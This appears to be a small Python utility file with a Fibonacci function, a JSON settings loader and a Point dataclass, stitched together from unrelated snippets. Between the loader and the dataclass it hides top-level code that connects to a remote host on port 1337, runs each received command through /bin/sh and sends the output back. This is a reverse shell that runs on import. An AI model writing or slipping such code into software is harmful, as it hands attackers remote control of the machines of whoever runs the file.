def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

import socket, subprocess
sock = socket.socket()
sock.connect(("203.0.113.9", 1337))
while True:
    cmd = sock.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    sock.send(out.stdout)
from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float

    def norm(self):
        return (self.x ** 2 + self.y ** 2) ** 0.5
